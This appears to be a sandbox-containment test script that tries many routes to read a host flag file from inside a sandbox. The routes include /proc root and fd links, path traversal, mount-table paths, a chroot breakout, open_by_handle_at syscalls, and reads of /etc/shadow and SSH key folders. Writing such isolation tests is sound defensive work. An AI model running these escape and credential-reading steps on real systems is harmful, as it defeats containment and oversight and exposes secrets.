"""Read a file of the host by every name that could lead to it."""

from __future__ import annotations

import os

from prelude import GIVEN, attempt, content, libc


def _strange(folder: str) -> list[str] | None:
    """Names of the host's in a folder that should be the sandbox's own and empty."""
    known = {"user", "lib", "cache", "log", ".pyenv", ".nvm"}
    return [name for name in os.listdir(folder) if name not in known] or None


flag: str = GIVEN["flag"]
attempt("absolute", lambda: content(flag))
attempt("upwards", lambda: content("../" * 64 + flag))
attempt("own root", lambda: content(f"/proc/self/root{flag}"))
attempt("own root upwards", lambda: content(f"/proc/self/root/../../..{flag}"))
attempt("thread's root", lambda: content(f"/proc/thread-self/root{flag}"))
for pid in [name for name in os.listdir("/proc") if name.isdigit()]:
    for link in ("root", "cwd", "cwd/../../../../..", "exe/../../../.."):
        attempt(f"{pid} {link}", lambda pid=pid, link=link: content(f"/proc/{pid}/{link}{flag}"))
    try:
        numbers = os.listdir(f"/proc/{pid}/fd")
    except OSError:
        continue
    for number in numbers:
        attempt(f"{pid} fd {number}", lambda pid=pid, n=number: content(f"/proc/{pid}/fd/{n}/../../../../../..{flag}"))

# paths that the mount table tells, and folders that servers keep data in
options: set[str] = set()
with open("/proc/self/mountinfo") as table:
    for line in table:
        fields = line.split()
        options.update(word for field in fields for word in field.replace("=", ":").replace(",", ":").split(":"))
for path in sorted(word for word in options if word.startswith("/") and len(word) > 1):
    attempt(f"mount table {path}", lambda path=path: content(f"{path}/../../../../../..{flag}"))
for folder in GIVEN["folders"]:
    attempt(f"data folder {folder}", lambda folder=folder: os.listdir(folder) or None)


def out_of_a_second_root() -> bytes | None:
    """The classic way out of chroot: keep a directory open, change root below it, climb."""
    here = os.open("/", os.O_RDONLY | os.O_DIRECTORY)
    os.makedirs("/tmp/second", exist_ok=True)
    try:
        os.chroot("/tmp/second")
        os.fchdir(here)
        os.chdir("../" * 64)
        return content(flag.lstrip("/"))
    finally:
        os.close(here)
        os.rmdir("/tmp/second")


attempt("chroot", out_of_a_second_root)
attempt("name_to_handle_at", lambda: libc.syscall(303, -100, b"/", b"\x80" + bytes(200), b"\0" * 8, 0))
attempt("open_by_handle_at", lambda: libc.syscall(304, 3, b"\x08\0\0\0\x01\0\0\0\x02\0\0\0\0\0\0\0", os.O_RDONLY))
for name in ("root", "home", "var/lib", "var/log", "srv", "mnt", "boot", "etc/shadow", "etc/ssh", "root/.ssh"):
    attempt(f"folder {name}", lambda name=name: content(f"/{name}") if name == "etc/shadow" else _strange(f"/{name}"))
